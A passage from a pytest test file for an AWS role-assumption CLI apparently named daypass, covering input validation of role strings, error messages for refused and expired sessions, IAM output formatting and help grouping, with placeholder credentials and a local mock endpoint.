    ],
)
def test_refusal_that_the_caller_can_act_on_says_how(
    cli: Callable, serve: Callable, command: Any, answer: Any, step: str
) -> None:
    serve(answer)
    _, *further = cli(*command).err.splitlines()
    assert [line for line in further if step in line], further
    assert not [line for line in further if "to see why" in line]


@pytest.mark.parametrize(
    "role", ["ro le", "http://127.0.0.1:1", "a\\b", "*", "arn:aws:iam::1:role/x", "arn:aws:iam::111122223333:user/x"]
)
@pytest.mark.usefixtures("key")
def test_role_of_a_form_that_no_role_has_is_refused_before_a_call(cli: Callable, serve: Callable, role: str) -> None:
    serve()
    ran = cli("assume", role)
    assert ran.status == 7
    assert (
        "is not a role: give its ARN (arn:aws:iam::ACCOUNT:role/NAME), ACCOUNT/NAME, or a NAME of your account"
        in ran.err
    )


@pytest.mark.usefixtures("key")
def test_answer_of_iam_with_members_inside_is_printed_as_json(cli: Callable, serve: Callable) -> None:
    serve(result("GetUser", "<User><UserName>ann</UserName></User>"))
    ran = cli("iam", "GetUser")
    assert json.loads(ran.out) == {"User": {"UserName": "ann"}}


def test_expired_session_of_exec_says_how_to_get_a_new_one(
    cli: Callable, serve: Callable, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "ASIAEXAMPLE000000000")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "s")
    monkeypatch.setenv("AWS_ENDPOINT_URL", "http://127.0.0.1:8700")
    monkeypatch.setenv("DAYPASS_ROLE", "reader")
    serve(error("ExpiredToken", "The security token included in the request is expired", 403))
    ran = cli("whoami")
    assert "For new ones: daypass exec --fresh reader, outside of it. To clear them: eval " in ran.err


def test_help_shows_each_command_in_one_group() -> None:
    from daypass.cli.commands import COMMANDS, GROUPS

    grouped = [name for names in GROUPS.values() for name in names]
    assert sorted(grouped) == sorted(COMMANDS)
